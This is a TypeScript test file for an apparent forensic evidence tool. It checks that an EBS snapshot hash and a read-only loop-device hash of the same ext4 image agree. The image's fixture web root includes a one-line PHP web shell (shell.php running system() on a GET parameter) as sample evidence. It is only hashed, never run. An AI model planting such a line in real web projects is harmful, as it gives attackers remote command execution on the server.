// The cross-check of the two paths to the evidence bytes: the acquisition hash read through the EBS
// direct APIs (hashSnapshot, on the local AWS) and the room's device hash (cleanroom-evidence-hash
// on a read-only loop device) of the same disk must agree — and both must be the SHA-256 of the
// image file padded to the volume size, computed here independently.
//
// The snapshot is written through StartSnapshot / PutSnapshotBlock / CompleteSnapshot with the SDK
// straight to the emulator (the product never writes snapshots), only the blocks that are not all
// zeros, as a sparse upload does; its block size is whatever the emulator reports (moto 5.2.1
// reports 512 for StartSnapshot, AWS 524288: docs/local-aws.md). A 1 GiB volume: the smallest EBS
// size, and both hashes read every byte of it.
import t from 'tap';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CompleteSnapshotCommand, EBSClient, PutSnapshotBlockCommand, StartSnapshotCommand } from '@aws-sdk/client-ebs';
import { useLocalAws } from '../../local-aws/local-aws.js';
import { openAccount } from '../../src/aws/account.js';
import { hashSnapshot } from '../../src/evidence/content-hash.js';
import { attachLoop, guest, must, sha256OfDevice, tempDir } from './fixtures/loop-devices.js';

const GIB = 2 ** 30;

t.test('the EBS direct hash of a snapshot and the in-room hash of a device holding the same bytes agree', async (t) => {
  // A small web root on ext4, reproducible bytes (fixed UUID and hash seed; no mount needed).
  const dir = tempDir(t);
  const content = join(dir, 'content');
  mkdirSync(join(content, 'var/www/html'), { recursive: true });
  writeFileSync(join(content, 'var/www/html/index.html'), '<h1>it works</h1>\n');
  writeFileSync(join(content, 'var/www/html/shell.php'), '<?php system($_GET["c"]); ?>\n');
  const image = join(dir, 'evidence.img');
  must('truncate', ['-s', '8M', image]);
  const uuid = '0c1ea2f0-0000-4000-8000-000000000013';
  must('mkfs.ext4', ['-q', '-F', '-U', uuid, '-E', `hash_seed=${uuid}`, '-d', content, image], {
    E2FSPROGS_FAKE_TIME: '1767225600',
  });
  const bytes = readFileSync(image);

  const aws = await useLocalAws(t);
  const ebs = new EBSClient({ endpoint: aws.endpoint });
  const s = await ebs.send(
    new StartSnapshotCommand({ VolumeSize: 1, Description: 'cleanroom in-room hash cross-check' }),
  );
  const snapshotId = s.SnapshotId!;
  const blockSize = s.BlockSize!;
  let written = 0;
  for (let index = 0; index * blockSize < bytes.length; index++) {
    const data = Buffer.alloc(blockSize);
    bytes.copy(data, 0, index * blockSize, Math.min(bytes.length, (index + 1) * blockSize));
    if (!data.some((b) => b !== 0)) continue;
    written++;
    await ebs.send(
      new PutSnapshotBlockCommand({
        SnapshotId: snapshotId,
        BlockIndex: index,
        BlockData: data,
        DataLength: blockSize,
        Checksum: createHash('sha256').update(data).digest('base64'),
        ChecksumAlgorithm: 'SHA256',
      }),
    );
  }
  await ebs.send(new CompleteSnapshotCommand({ SnapshotId: snapshotId, ChangedBlocksCount: written }));
  t.ok(written > 0 && written * blockSize < bytes.length, `a sparse upload: ${written} blocks of ${blockSize} bytes`);

  const account = await openAccount({ region: 'us-east-1' });
  const viaEbs = await hashSnapshot(account, snapshotId);
  t.equal(viaEbs.sizeBytes, GIB, 'the volume size');
  t.equal(viaEbs.blocksRead, written, 'every block written is read back');

  // The device in the room: the same image bytes, padded with zeros to the volume size.
  must('truncate', ['-s', String(GIB), image]);
  const loop = attachLoop(t, image);
  must('blockdev', ['--setro', loop.dev]);
  const inRoom = guest(
    'cleanroom-evidence-hash',
    [loop.dev, '--expected', viaEbs.sha256, '--size', String(viaEbs.sizeBytes)],
    loop.env,
  );
  t.equal(inRoom.status, 0, `the guest tool verifies the device against the EBS direct hash (${inRoom.stderr.trim()})`);
  t.match(JSON.parse(inRoom.stdout), { result: 'verified', sha256: viaEbs.sha256, sizeBytes: GIB });

  // Both equal what anyone computes from the image file itself.
  const independent = createHash('sha256')
    .update(bytes)
    .update(Buffer.alloc(GIB - bytes.length))
    .digest('hex');
  t.equal(viaEbs.sha256, independent, 'EBS direct hash = SHA-256 of the padded image');
  t.equal(await sha256OfDevice(loop.dev), independent, 'and of the loop device, read by this test');
});
